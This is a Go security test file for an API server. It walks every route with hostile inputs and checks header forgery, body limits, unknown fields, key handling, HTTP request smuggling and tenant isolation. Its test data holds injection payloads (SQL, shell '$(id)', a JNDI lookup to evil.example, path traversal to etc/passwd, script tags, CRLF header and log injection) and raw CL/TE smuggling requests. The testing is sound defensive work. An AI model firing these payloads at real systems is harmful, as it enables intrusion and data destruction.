package api

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/danielgtaylor/huma/v2"

	"github.com/usher-sh/usher/internal/auth"
	"github.com/usher-sh/usher/internal/door"
)

// The tests of docs/security.md that walk every route, so that a new one is
// walked as well.

// queryNames are the query parameters that the OpenAPI document has of a route.
func (a *server) queryNames(rt *door.Route) (names []string) {
	method, path, _ := strings.Cut(rt.Pattern, " ")
	item := a.Document().Paths[path]
	if item == nil {
		return nil
	}
	op := map[string]*huma.Operation{"GET": item.Get, "POST": item.Post, "PUT": item.Put, "PATCH": item.Patch, "DELETE": item.Delete}[method]
	if op == nil {
		return nil
	}
	for _, p := range op.Parameters {
		if p.In == "query" {
			names = append(names, p.Name)
		}
	}
	return names
}

// as sends one request to a route as a caller who may call it; no answer takes more
// than two seconds.
func (w *world) as(rt *door.Route, target, contentType, body string, headers ...string) *httptest.ResponseRecorder {
	method, _, _ := strings.Cut(rt.Pattern, " ")
	r, err := http.NewRequest(method, "http://127.0.0.1"+target, strings.NewReader(body))
	if err != nil {
		w.t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(w.t.(*testing.T).Context(), 2*time.Second)
	defer cancel()
	r = r.WithContext(ctx)
	key := w.keys[auth.RoleAdmin]
	if rt.Perm == auth.PermSCIM {
		key = w.keys[auth.RoleSCIM]
	}
	r.Header.Set("Authorization", "Bearer "+key)
	if contentType != "" {
		r.Header.Set("Content-Type", contentType)
	}
	for i := 0; i < len(headers); i += 2 {
		r.Header.Set(headers[i], headers[i+1])
	}
	r.Host = r.Header.Get("Host")
	out := httptest.NewRecorder()
	w.api.ServeHTTP(out, r)
	return out
}

// filled is a route's path with v for each of its ids.
func filled(rt *door.Route, v string) string {
	_, path, _ := strings.Cut(rt.Pattern, " ")
	var b strings.Builder
	for {
		before, rest, ok := strings.Cut(path, "{")
		b.WriteString(before)
		if !ok {
			return b.String()
		}
		b.WriteString(url.PathEscape(v))
		_, path, _ = strings.Cut(rest, "}")
	}
}

// hostile is what callers put where a word is expected: SQL, shell, templates,
// paths, line ends, invalid UTF-8, long texts.
var hostile = []string{"'; DROP TABLE customer; --", `" OR ""="`, "$(id)", "{{7*7}}${jndi:ldap://evil.example/a}", "..%2f..%2fetc/passwd",
	"%s%n", "<script>alert(1)</script>",
	"a\r\nX-Evil: 1", "a\nlevel=ERROR msg=forged", "\x00", "\xff\xfe", strings.Repeat("x", 3000), "-1", "9223372036854775808", "%"}

// TestHostileWords: wherever a caller can put a word, in paths and queries, no
// word makes the server fail, tells what is inside, writes a line of the log, or
// sets a header; and nothing is lost.
func TestHostileWords(t *testing.T) {
	onBoth(t, func(t *testing.T, w *world) {
		log := &lockedBuffer{}
		w.again(func(s *setup) {
			s.Door.Log = slog.New(slog.NewTextHandler(log, &slog.HandlerOptions{Level: slog.LevelDebug}))
		})
		calls := 0
		for _, rt := range w.api.Routes() {
			kind, body := "", ""
			if rt.Accept != nil {
				kind, body = rt.Accept[0], "{}"
			}
			names := w.api.queryNames(rt)
			if !strings.Contains(rt.Pattern, "{") && len(names) == 0 {
				continue
			}
			for _, v := range hostile {
				var targets []string
				if strings.Contains(rt.Pattern, "{") {
					targets = append(targets, filled(rt, v))
				}
				for _, name := range names {
					targets = append(targets, filled(rt, "acme")+"?"+url.Values{name: {v}}.Encode())
					if name == "cursor" {
						targets = append(targets, filled(rt, "acme")+"?cursor="+base64.RawURLEncoding.EncodeToString([]byte(v)))
					}
				}
				for _, target := range targets {
					calls++
					got := w.as(rt, target, kind, body, "X-Request-ID", v)
					if got.Code >= 500 {
						t.Errorf("%s: %q: got %d %s", rt.Pattern, target, got.Code, got.Body)
					}
					if got.Header().Get("X-Evil") != "" || strings.ContainsAny(got.Header().Get("X-Request-Id"), "\r\n") {
						t.Errorf("%s: %q: a header was made: %v", rt.Pattern, target, got.Header())
					}
					for _, inside := range []string{"goroutine", ".go:", "SQLSTATE", "sqlite", "pgx", "syntax error at"} {
						if strings.Contains(got.Body.String(), inside) {
							t.Errorf("%s: %q: the answer tells what is inside: %s", rt.Pattern, target, got.Body)
						}
					}
				}
			}
		}
		if calls < 1500 {
			t.Errorf("%d calls: was every route walked?", calls)
		}
		for line := range strings.Lines(log.String()) {
			if !strings.HasPrefix(line, "time=") {
				t.Fatalf("a caller wrote a line of the log: %q", line)
			}
		}
		if got := w.do("GET", "/v1/customers/acme", "", ""); got.Code != 200 && got.Code != 404 { // the walk may delete by its own id
			t.Errorf("afterwards: got %d %s", got.Code, got.Body)
		}
		if got := w.do("GET", "/v1/customers/odd%2Fn%C3%A4me%20%3F&%25", "", ""); got.Code != 200 {
			t.Errorf("a customer is lost: got %d %s", got.Code, got.Body)
		}
	})
}

// TestForgedHost: no answer repeats a host that a request makes up, wherever it
// says it; none lets another site read it, but for flags and the sites named for
// them; and none goes by a method that a header says.
func TestForgedHost(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, rt := range w.api.Routes() {
		kind, body := "", ""
		if rt.Accept != nil {
			kind, body = rt.Accept[0], "{}"
		}
		for _, target := range []string{filled(rt, "nobody"), filled(rt, "nobody") + "/", "/" + filled(rt, "nobody")} {
			got := w.as(rt, target, kind, body, "Host", "evil.example", "X-Forwarded-Host", "evil.example", "Forwarded",
				"host=evil.example;proto=http", "X-Original-URL", "/v1/keys",
				"X-Rewrite-URL", "/v1/keys", "X-HTTP-Method-Override", "DELETE", "Origin", "https://evil.example", "Referer", "https://evil.example/")
			if all := got.Body.String() + fmt.Sprint(got.Header()); strings.Contains(all, "evil") || strings.Contains(all, "Access-Control") {
				t.Errorf("%s: got %d %s", rt.Pattern, got.Code, all)
			}
			if got.Header().Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(rt.Pattern, "POST ") &&
				got.Header().Get("Cache-Control") != "no-store" && rt.Perm+auth.Permission(rt.Tag) != "AuthZEN" {
				t.Errorf("%s: got %v, want nosniff and, but for POST and AuthZEN's public metadata, no-store", rt.Pattern, got.Header())
			}
		}
	}
	before := len(w.log.String())
	for _, method := range []string{"TRACE", "CONNECT", "OPTIONS", "PROPFIND"} {
		got := w.do(method, "/v1/customers/acme", "", "", "X-Evil", "zq7", "Cookie", "zq7=zq7")
		if got.Code != 405 || strings.Contains(got.Body.String()+fmt.Sprint(got.Header()), "zq7") {
			t.Errorf("%s: got %d %v %s, want 405 and no echo", method, got.Code, got.Header(), got.Body)
		}
	}
	if got := w.do("GET", "/v1/customers/acme", "", "", "X-HTTP-Method-Override", "DELETE"); got.Code != 200 ||
		w.do("GET", "/v1/customers/acme", "", "").Code != 200 {
		t.Errorf("a header said DELETE: got %d %s", got.Code, got.Body)
	}
	if strings.Contains(w.log.String()[before:], "zq7") {
		t.Error("a header is in the log")
	}
}

// TestBodiesAreBounded: every route that takes a body refuses one that is larger
// than it takes, nests too deep, or says a thing twice.
func TestBodiesAreBounded(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, rt := range w.api.Routes() {
		if rt.Accept == nil || strings.Contains(rt.Pattern, " /v1/session") {
			continue // TestSessionsOverHTTP asks those
		}
		target := filled(rt, "nobody")
		if got := w.as(rt, target, rt.Accept[0], strings.Repeat(" ", int(rt.MaxBody)+1)); got.Code != 413 {
			t.Errorf("%s: %d bytes: got %d %s, want 413", rt.Pattern, rt.MaxBody+1, got.Code, got.Body)
		}
		if got := w.as(rt, target, "text/plain", `{}`); got.Code != 415 && !strings.HasPrefix(target, "/access/") || got.Code < 400 {
			t.Errorf("%s: text/plain: got %d %s, want it refused", rt.Pattern, got.Code, got.Body)
		}
		for _, bad := range []string{`{"zq7":` + strings.Repeat("[", 20_000) + strings.Repeat("]", 20_000) + `}`, `{"zq7":1,"zq7":2}`,
			`{"zq7":1}{"zq7":1}`, "{\"zq7\":\"\xff\"}", `{"zq7":"\u0000"}`} {
			if got := w.as(rt, target, rt.Accept[0], bad); got.Code != 400 && !(got.Code == 200 && strings.Contains(got.Body.String(),
				`"accepted":0`)) {
				t.Errorf("%s: %.40s: got %d %.300s, want 400", rt.Pattern, bad, got.Code, got.Body)
			}
		}
	}
}

// TestUnknownFields: what a route does not know is refused, not stored: nobody
// sets an owner, a date or a hash that is not theirs to set. AuthZEN and SCIM
// have callers send what they like; what they do not know changes nothing there.
func TestUnknownFields(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, rt := range w.api.Routes() {
		if rt.Accept == nil || rt.Raw || strings.Contains(rt.Pattern, " /v1/session") {
			continue
		}
		if slices.ContainsFunc([]string{" /access/", " /scim/", " /ofrep/", " /v1/events"},
			func(s string) bool { return strings.Contains(rt.Pattern, s) }) {
			continue
		}
		if got := w.as(rt, filled(rt, "nobody"), "application/json", `{"zq7":1}`); got.Code != 400 ||
			!strings.Contains(got.Body.String(), "zq7") {
			t.Errorf("%s: got %d %s, want 400", rt.Pattern, got.Code, got.Body)
		}
	}
	for _, c := range []struct{ method, path, body string }{
		{"PUT", "/v1/customers/acme", `{"id":"other"}`}, {"PUT", "/v1/customers/acme", `{"created_at":"2001-01-01T00:00:00Z"}`},
		{"PUT", "/v1/customers/acme", `{"revision":9}`},
		{"POST", "/v1/keys", `{"role":"read","hash":"x"}`}, {"POST", "/v1/keys", `{"role":"read","environment":"sandbox"}`},
		{"POST", "/v1/keys", `{"role":"read","id":"aaaaaaaaaaaaaaaa"}`},
		{"POST", "/v1/operators", `{"name":"x","roles":[{"role":"owner"}]}`}, {"POST", "/v1/operators",
			`{"name":"x","password":"four small words here"}`},
		{"PUT", "/v1/operators/x/roles/support", `{"granted_by":"operator:x"}`}, {"PUT", "/v1/operators/x/roles/support",
			`{"source":"break_glass"}`},
		{"PUT", "/v1/customers/acme/members/x", `{"source":"manual","roles":["admin"]}`},
		{"PUT", "/v1/customers/acme/assignments", `{"member":"x","role":"y","granted_by":"z"}`},
		{"POST", "/v1/customers/acme/grants", `{"feature":"tokens","amount":1,"reason":"r","used":-5}`},
	} {
		if got := w.do(c.method, c.path, "application/json", c.body); got.Code != 400 {
			t.Errorf("%s %s %s: got %d %s, want 400", c.method, c.path, c.body, got.Code, got.Body)
		}
	}
}

// TestParametersOnce: a query parameter that is unknown, or given twice where
// once is meant, is refused or has one meaning, the same every time; a key is
// taken from the header alone.
func TestParametersOnce(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	key := w.keys[auth.RoleAdmin]
	for _, target := range []string{"/v1/customers/acme?key=" + key, "/v1/customers/acme?access_token=" + key,
		"/v1/customers/acme?Authorization=Bearer%20" + key, "/ofrep/v1/events?ticket=" + key} {
		if got := w.do("GET", target, "", "", "Authorization", ""); got.Code != 401 {
			t.Errorf("a key in the address: got %d %s, want 401", got.Code, got.Body)
		}
	}
	r := httptest.NewRequest("GET", "/v1/customers/acme", nil)
	r.Header["Authorization"] = []string{"Bearer " + key, "Bearer " + w.keys[auth.RoleRead]}
	out := httptest.NewRecorder()
	if w.api.ServeHTTP(out, r); out.Code != 401 {
		t.Errorf("two keys: got %d %s, want 401", out.Code, out.Body)
	}
	for target, want := range map[string]int{
		"/v1/usage?customer=acme&customer=other&feature=tokens&window=day&from=2026-03-01T00:00:00Z&to=2026-03-02T00:00:00Z": 400,
		"/v1/customers/acme/entitlements?at=2026-03-01T00:00:00Z&at=2026-03-02T00:00:00Z":                                    400,
		"/v1/customers/acme/entitlements?zq7=1":                                                                              400,
		"/v1/customers?limit=0":                                                                                              400,
		"/v1/customers?limit=1001":                                                                                           400,
		"/v1/customers?limit=-1":                                                                                             400,
		"/v1/customers?limit=1e3":                                                                                            400,
	} {
		if got := w.do("GET", target, "", ""); got.Code != want {
			t.Errorf("%s: got %d %s, want %d", target, got.Code, got.Body, want)
		}
	}
}

// TestSmuggling: a real connection, byte by byte: where a message ends is never
// in doubt, and what is hidden in a body is never a request.
func TestSmuggling(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	server := door.NewServer("", w.api)
	server.ErrorLog = slog.NewLogLogger(slog.DiscardHandler, slog.LevelError)
	go server.Serve(listener)
	t.Cleanup(func() { server.Close() })
	send := func(raw string) []int {
		t.Helper()
		conn, err := net.Dial("tcp", listener.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		conn.SetDeadline(time.Now().Add(5 * time.Second))
		go io.WriteString(conn, raw)
		var codes []int
		for from := bufio.NewReader(conn); ; {
			res, err := http.ReadResponse(from, nil)
			if err != nil {
				return codes
			}
			io.Copy(io.Discard, res.Body)
			if codes = append(codes, res.StatusCode); res.Close {
				return codes
			}
		}
	}
	key := w.keys[auth.RoleAdmin]
	post := func(headers, body string) string {
		return "POST /v1/check HTTP/1.1\r\nHost: u\r\nAuthorization: Bearer " + key + "\r\nContent-Type: application/json\r\n" + headers +
			"\r\n" + body
	}
	const ask = `{"customer":"acme","feature":"sso"}`
	hidden := "DELETE /v1/customers/acme HTTP/1.1\r\nHost: u\r\nAuthorization: Bearer " + key + "\r\nConnection: close\r\n\r\n"
	last := "GET /healthz HTTP/1.1\r\nHost: u\r\nConnection: close\r\n\r\n"
	length := fmt.Sprintf("Content-Length: %d\r\n", len(ask))
	chunked := fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(ask), ask)
	for _, c := range []struct {
		name, raw string
		want      []int
	}{
		{"one after the other", post(length, ask) + last, []int{200, 200}},
		{"in chunks, the last of its connection", post("Transfer-Encoding: chunked\r\n", chunked) + last, []int{200}},
		{"both, the body holding a request", post(fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n", len("0\r\n\r\n"+hidden)),
			"0\r\n\r\n"+hidden), []int{400}},
		{"two lengths", post(length+"Content-Length: 4\r\n", ask), []int{400}},
		{"a length with a sign", post("Content-Length: +35\r\n", ask), []int{400}},
		{"a length that is a list", post("Content-Length: 35, 35\r\n", ask), []int{400}},
		{"another encoding", post("Transfer-Encoding: xchunked\r\n", chunked), []int{501}},
		{"two encodings", post("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", chunked), []int{501}},
		{"a space before the colon", post("Transfer-Encoding : chunked\r\n"+length, ask), []int{400}},
		{"a folded line is one header", post("X-A: b\r\n Transfer-Encoding: chunked\r\n"+length, ask) + last, []int{200, 200}},
		{"a chunk's length that is none", post("Transfer-Encoding: chunked\r\n", "zz\r\n"+ask+"\r\n0\r\n\r\n"), []int{400}},
		{"no host", "GET /healthz HTTP/1.1\r\n\r\n", []int{400}},
		{"two hosts", "GET /healthz HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", []int{400}},
		{"a host with a path", "GET /healthz HTTP/1.1\r\nHost: a/b\r\n\r\n", []int{400}},
		{"a version that is none", "GET /healthz HTTP/9.9\r\nHost: u\r\n\r\n", []int{505}},
		{"HTTP/2 in the clear", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", []int{400}},
		{"a line end in a header", "GET /healthz HTTP/1.1\r\nHost: u\r\nX-A: a\rb\r\n\r\n", []int{400}},
		{"headers of 32 KiB", "GET /healthz HTTP/1.1\r\nHost: u\r\nX-A: " + strings.Repeat("x", 32<<10) + "\r\n\r\n", []int{431}},
	} {
		if got := send(c.raw); !slices.Equal(got, c.want) {
			t.Errorf("%s: got %v, want %v", c.name, got, c.want)
		}
	}
	if got := w.do("GET", "/v1/customers/acme", "", ""); got.Code != 200 {
		t.Errorf("a hidden request was run: got %d %s", got.Code, got.Body)
	}
	s := door.NewServer("", nil)
	if s.ReadHeaderTimeout <= 0 || s.ReadTimeout <= 0 || s.WriteTimeout <= 0 || s.IdleTimeout <= 0 || s.MaxHeaderBytes <= 0 {
		t.Errorf("a server without a limit: %+v", s)
	}
}

// TestCustomersNeverMeet: what one customer has is not there in the address of
// another, and a call about one changes nothing of the other.
func TestCustomersNeverMeet(t *testing.T) {
	t.Parallel()
	w := people(t)
	w.ask(t, 201, "PUT", "/v1/customers/other", `{}`)
	w.ask(t, 201, "PUT", "/v1/customers/firm/groups/staff", `{}`)
	w.do("PUT", "/v1/customers/firm/groups/staff/members/alice", "", "")
	w.ask(t, 200, "PUT", "/v1/customers/firm/roles/own", `{"permissions":["report.read"]}`)
	w.ask(t, 201, "PUT", "/v1/customers/firm/resources/report/zq7", `{"properties":{"owner":"zq7"}}`)
	w.do("PUT", "/v1/customers/firm/seats/members/alice", "application/json", `{}`)
	made := w.do("PUT", "/v1/customers/firm/assignments", "application/json", `{"member":"alice","role":"viewer"}`)
	assignment := field(t, made, "id")
	if made.Code != 200 || assignment == "" {
		t.Fatalf("got %d %s", made.Code, made.Body)
	}
	state := func() string {
		var all bytes.Buffer
		for _, path := range []string{"members", "groups", "groups/staff/members", "roles", "assignments", "resources/report", "seats/members",
			"entitlements"} {
			got := w.do("GET", "/v1/customers/firm/"+path, "", "")
			if got.Code != 200 {
				t.Fatalf("%s: got %d %s", path, got.Code, got.Body)
			}
			fmt.Fprintln(&all, got.Body)
		}
		return regexp.MustCompile(`"revision":\d+`).ReplaceAllString(all.String(), "") // it is the environment's
	}
	before := state()
	for _, path := range []string{"members/alice", "groups/staff", "groups/staff/members", "resources/report/zq7"} {
		if got := w.do("GET", "/v1/customers/other/"+path, "", ""); got.Code != 404 {
			t.Errorf("GET %s of another customer: got %d %s, want 404", path, got.Code, got.Body)
		}
	}
	for _, path := range []string{"members", "groups", "assignments", "resources/report", "seats/members"} {
		if got := w.do("GET", "/v1/customers/other/"+path, "", ""); got.Code != 200 || strings.Contains(got.Body.String(), "alice") ||
			strings.Contains(got.Body.String(), "zq7") || strings.Contains(got.Body.String(), "staff") {
			t.Errorf("GET %s of another customer: got %d %s, want nothing of the first", path, got.Code, got.Body)
		}
	}
	if got := w.do("GET", "/v1/customers/other/roles", "", ""); strings.Contains(got.Body.String(), `"own"`) {
		t.Errorf("another customer's own role: got %s", got.Body)
	}
	for _, path := range []string{"members/alice", "groups/staff", "groups/staff/members/alice", "roles/own", "assignments/" + assignment,
		"resources/report/zq7", "seats/members/alice"} {
		if got := w.do("DELETE", "/v1/customers/other/"+path, "", ""); got.Code >= 500 {
			t.Errorf("DELETE %s of another customer: got %d %s", path, got.Code, got.Body)
		}
	}
	for path, body := range map[string]string{"groups/staff/members/alice": "", "assignments": `{"member":"alice","role":"viewer"}`} {
		kind := ""
		if body != "" {
			kind = "application/json"
		}
		if got := w.do("PUT", "/v1/customers/other/"+path, kind, body); got.Code < 400 || got.Code >= 500 {
			t.Errorf("PUT %s of another customer: got %d %s, want it refused", path, got.Code, got.Body)
		}
	}
	// A decision is about the customer that is named, also if another one has a member of that name.
	if got := w.do("POST", "/v1/check", "application/json",
		`{"customer":"other","member":"alice","permission":"report.read"}`).Body.String(); !strings.Contains(got, `"reason":"unknown_member"`) {
		t.Errorf("another customer's member: got %s", got)
	}
	for _, search := range []string{`members {"customer":"other","permission":"report.read"}`,
		`resources {"customer":"other","member":"alice","permission":"report.read","type":"report"}`,
		`permissions {"customer":"other","member":"alice","type":"report"}`} {
		name, body, _ := strings.Cut(search, " ")
		if got := w.do("POST", "/v1/search/"+name, "application/json", body); got.Code >= 500 || strings.Contains(got.Body.String(), "alice") ||
			strings.Contains(got.Body.String(), "zq7") || strings.Contains(got.Body.String(), `"report.read"`) {
			t.Errorf("a search of another customer: got %d %s", got.Code, got.Body)
		}
	}
	if after := state(); after != before {
		t.Errorf("the customer changed:\n%s\n%s", before, after)
	}
}
